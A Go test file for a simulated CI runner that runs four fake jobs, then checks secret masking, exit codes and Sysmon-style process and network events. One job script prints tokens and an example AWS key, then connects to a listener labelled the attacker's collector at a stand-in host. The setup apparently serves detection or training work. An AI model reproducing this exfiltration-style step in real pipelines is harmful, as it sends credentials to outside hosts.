package runner

import (
	"bufio"
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/sakimori/sakimori/sim/gitrepo"
)

// fakeCI is the CI's side of the runner protocol, with the repositories
// served over git's dumb HTTP, as the lab's CI serves them.
type fakeCI struct {
	t           *testing.T
	runnerToken string
	git         http.Handler

	mu     sync.Mutex
	queue  []*Job
	tokens map[int]string
	runner string // the name the runner gave
	traces map[int]*bytes.Buffer
	events map[int][]map[string]any
	ends   map[int]jobEnd
	ended  chan int
}

type jobEnd struct {
	State    string `json:"state"`
	ExitCode int    `json:"exit_code"`
}

func newFakeCI(t *testing.T, git http.Handler, jobs ...*Job) *fakeCI {
	ci := &fakeCI{t: t, runnerToken: "runner-token-1", git: git, queue: jobs, tokens: map[int]string{},
		traces: map[int]*bytes.Buffer{}, events: map[int][]map[string]any{}, ends: map[int]jobEnd{}, ended: make(chan int, len(jobs))}
	for _, j := range jobs {
		ci.tokens[j.ID] = j.Token
		ci.traces[j.ID] = &bytes.Buffer{}
	}
	return ci
}

func (ci *fakeCI) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	rest, ok := strings.CutPrefix(r.URL.Path, "/api/v4/jobs/")
	if !ok {
		ci.git.ServeHTTP(w, r)
		return
	}
	ci.mu.Lock()
	defer ci.mu.Unlock()
	if rest == "request" && r.Method == http.MethodPost {
		var body struct{ Runner string }
		if r.Header.Get("Runner-Token") != ci.runnerToken || json.NewDecoder(r.Body).Decode(&body) != nil {
			http.Error(w, "403 Forbidden", http.StatusForbidden)
			return
		}
		ci.runner = body.Runner
		if len(ci.queue) == 0 {
			w.WriteHeader(http.StatusNoContent)
			return
		}
		w.WriteHeader(http.StatusCreated)
		_ = json.NewEncoder(w).Encode(ci.queue[0])
		ci.queue = ci.queue[1:]
		return
	}
	idText, what, _ := strings.Cut(rest, "/")
	id, _ := strconv.Atoi(idText)
	if _, ended := ci.ends[id]; ended || ci.tokens[id] == "" || r.Header.Get("Job-Token") != ci.tokens[id] {
		http.Error(w, "403 Forbidden", http.StatusForbidden)
		return
	}
	body, _ := io.ReadAll(r.Body)
	switch {
	case what == "trace" && r.Method == http.MethodPatch:
		ci.traces[id].Write(body)
		w.WriteHeader(http.StatusAccepted)
	case what == "events" && r.Method == http.MethodPost:
		sc := bufio.NewScanner(bytes.NewReader(body))
		for sc.Scan() {
			var e map[string]any
			if err := json.Unmarshal(sc.Bytes(), &e); err != nil {
				ci.t.Errorf("an event line is not a JSON object: %q", sc.Text())
				continue
			}
			ci.events[id] = append(ci.events[id], e)
		}
		w.WriteHeader(http.StatusAccepted)
	case what == "" && r.Method == http.MethodPut:
		var end jobEnd
		if err := json.Unmarshal(body, &end); err != nil {
			ci.t.Errorf("job %d's end: %q: %v", id, body, err)
		}
		ci.ends[id] = end
		ci.ended <- id
	default:
		http.NotFound(w, r)
	}
}

func text(s string) *string { return &s }

// One runner takes four jobs from the CI: one that clones the project,
// prints masked values and uploads, one whose script fails, one whose
// repository is not there, one that runs out of time. Each is run with
// the real git and bash, and reported as GitLab's runner would.
func TestRunnerRunsJobsAndReportsThem(t *testing.T) {
	for _, prog := range []string{"git", "bash"} {
		realPath(t, prog)
	}
	t.Setenv("RUNNER_TOKEN", "runner-token-1") // the runner's own: never a job's
	repo := gitrepo.Build([]gitrepo.Change{{
		Author: "Dana Dev <dana@acme.example>", When: time.Date(2021, 1, 31, 9, 0, 0, 0, time.UTC), Message: "API and its CI",
		Files: map[string]*string{"README.md": text("# Acme API\n"), "ci/coverage.txt": text("87%\n")},
	}})
	const secret = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
	upload := &Job{ID: 17, Token: "job-token-0123456789", Project: "acme/api", Pipeline: 42, Name: "test", Commit: repo.Head(),
		Variables: []Variable{
			{Key: "AWS_SECRET_ACCESS_KEY", Value: secret, Masked: true},
			{Key: "SHORT", Value: "abc", Masked: true},
			{Key: "REGION", Value: "us-east-1"},
		},
		Timeout: 60}
	fails := &Job{ID: 18, Token: "job-token-18-abcdefgh", Project: "acme/api", Pipeline: 43, Name: "lint", Commit: repo.Head(),
		// What a script leaves running in the background holds the log
		// open: it is cut short, or the job would wait for it.
		Script: []string{"echo before", "sleep 120 &", "exit 3", "echo never"}, Timeout: 60}
	missing := &Job{ID: 19, Token: "job-token-19-abcdefgh", Project: "acme/gone", Pipeline: 44, Name: "test", Commit: repo.Head(),
		Script: []string{"echo never"}, Timeout: 60}
	slow := &Job{ID: 20, Token: "job-token-20-abcdefgh", Project: "acme/api", Pipeline: 45, Name: "slow", Commit: repo.Head(),
		Script: []string{"sleep 30"}, Timeout: 1}
	ci := newFakeCI(t, gitrepo.NewServer(map[string]*gitrepo.Repo{"/acme/api.git": repo}), upload, fails, missing, slow)
	srv := httptest.NewServer(ci)
	defer srv.Close()
	port := slowListener(t, "127.0.0.2") // the attacker's collector, in the story
	line, clientImage := connectLine(t, "127.0.0.2", port)
	upload.Script = []string{
		"cat README.md",
		`echo "job $CI_JOB_ID of $CI_PROJECT_PATH at $CI_COMMIT_SHA, CI=$CI, server $CI_SERVER_URL, pipeline $CI_PIPELINE_ID"`,
		`echo "runner token: ${RUNNER_TOKEN:-none}; job token: $CI_JOB_TOKEN"`,
		`echo "key $AWS_SECRET_ACCESS_KEY short $SHORT in $REGION"`,
		`echo 'it'\''s quoted'`,
		"pwd",
		line,
	}
	for _, j := range []*Job{upload, fails, missing, slow} {
		j.RepoURL = fmt.Sprintf("http://gitlab-ci-token:%s@%s/%s.git", j.Token, strings.TrimPrefix(srv.URL, "http://"), j.Project)
	}
	builds := t.TempDir()
	addrs, err := ParseAddresses(`{"127.0.0.1": {"ip": "35.170.12.4", "name": "runner.acme.example"},
		"127.0.0.2": {"ip": "104.248.94.23", "name": "uploads.coverlytics-io.example"}}`)
	if err != nil {
		t.Fatal(err)
	}
	r := &Runner{CI: srv.URL, Token: "runner-token-1", Hostname: "runner-1", Builds: builds, Env: BaseEnv(os.Getenv), Addresses: addrs}

	ctx, stop := context.WithCancel(context.Background())
	stopped := make(chan error)
	go func() { stopped <- r.Run(ctx) }()
	for range 4 {
		select {
		case <-ci.ended:
		case <-time.After(60 * time.Second):
			t.Fatalf("the jobs did not end; ended: %v", ci.ends)
		}
	}
	stop()
	if err := <-stopped; err != nil {
		t.Errorf("Run: %v", err)
	}

	ci.mu.Lock()
	defer ci.mu.Unlock()
	if ci.runner != "runner-1" {
		t.Errorf("the runner called itself %q", ci.runner)
	}
	work := filepath.Join(builds, "acme/api")
	trace := ci.traces[17].String()
	for _, want := range []string{
		"Running with sakimori-sim ci-runner on runner-1\n",
		"$ cat README.md\n# Acme API\n",
		fmt.Sprintf("job 17 of acme/api at %s, CI=true, server %s, pipeline 42\n", repo.Head(), srv.URL),
		"runner token: none; job token: [MASKED]\n",
		"$ echo \"key $AWS_SECRET_ACCESS_KEY short $SHORT in $REGION\"\nkey [MASKED] short abc in us-east-1\n",
		"$ echo 'it'\\''s quoted'\nit's quoted\n",
		"$ pwd\n" + work + "\n",
		"$ " + line + "\n",
	} {
		if !strings.Contains(trace, want) {
			t.Errorf("job 17's log lacks %q:\n%s", want, trace)
		}
	}
	if !strings.HasSuffix(trace, "Job succeeded\n") {
		t.Errorf("job 17's log does not end in success:\n%s", trace)
	}
	for id, tr := range ci.traces {
		for _, leak := range []string{secret, "bPxRfiCY", upload.Token, fails.Token, missing.Token} {
			if strings.Contains(tr.String(), leak) {
				t.Errorf("job %d's log shows %q:\n%s", id, leak, tr)
			}
		}
	}

	wantEnds := map[int]jobEnd{17: {"success", 0}, 18: {"failed", 3}, 19: {"failed", 128}, 20: {"failed", 137}}
	for id, want := range wantEnds {
		if ci.ends[id] != want {
			t.Errorf("job %d ended %+v, want %+v", id, ci.ends[id], want)
		}
	}
	if tr := ci.traces[18].String(); !strings.Contains(tr, "$ echo before\nbefore\n$ sleep 120 &\n$ exit 3\nERROR: Job failed: exit code 3\n") || strings.Contains(tr, "never") {
		t.Errorf("job 18's log:\n%s", tr)
	}
	if tr := ci.traces[19].String(); !strings.Contains(tr, "fatal:") || !strings.Contains(tr, "ERROR: Job failed: exit code 128\n") || strings.Contains(tr, "$ echo never") {
		t.Errorf("job 19's log does not give git's reason:\n%s", tr)
	}
	if tr := ci.traces[20].String(); !strings.Contains(tr, "$ sleep 30\nERROR: Job failed: execution took longer than 1s seconds\n") {
		t.Errorf("job 20's log:\n%s", tr)
	}

	checkJobEvents(t, ci.events[17], work, clientImage, port)
	if len(ci.events[19]) != 0 {
		t.Errorf("job 19 ran no script, yet reported %v", ci.events[19])
	}
}

// checkJobEvents: the script's bash and the uploading client were seen,
// with the job's fields, and the upload's connection.
func checkJobEvents(t *testing.T, events []map[string]any, work, clientImage string, port int) {
	t.Helper()
	bash := realPath(t, "bash")
	var bashSeen, clientSeen, connSeen bool
	for _, e := range events {
		if e["Computer"] != "runner-1" || e["Project"] != "acme/api" || e["Job"] != 17.0 || e["Pipeline"] != 42.0 || e["User"] == "" {
			t.Errorf("an event without the job's fields: %v", e)
		}
		switch {
		case e["Category"] == "process_creation" && e["Image"] == bash && strings.Contains(e["CommandLine"].(string), "--noprofile --norc -eo pipefail"):
			bashSeen = e["CurrentDirectory"] == work && e["EventID"] == 1.0
		case e["Category"] == "process_creation" && e["Image"] == clientImage:
			clientSeen = true
		case e["Category"] == "network_connection" && e["Image"] == clientImage:
			connSeen = e["DestinationPort"] == float64(port) && e["DestinationIp"] == "104.248.94.23" &&
				e["DestinationHostname"] == "uploads.coverlytics-io.example" && e["SourceIp"] == "35.170.12.4" &&
				e["EventID"] == 3.0 && e["Protocol"] == "tcp" && e["Initiated"] == "true"
		}
	}
	if !bashSeen || !clientSeen || !connSeen {
		t.Errorf("events: script's bash %v, %s %v, its connection %v:\n%v", bashSeen, clientImage, clientSeen, connSeen, events)
	}
}
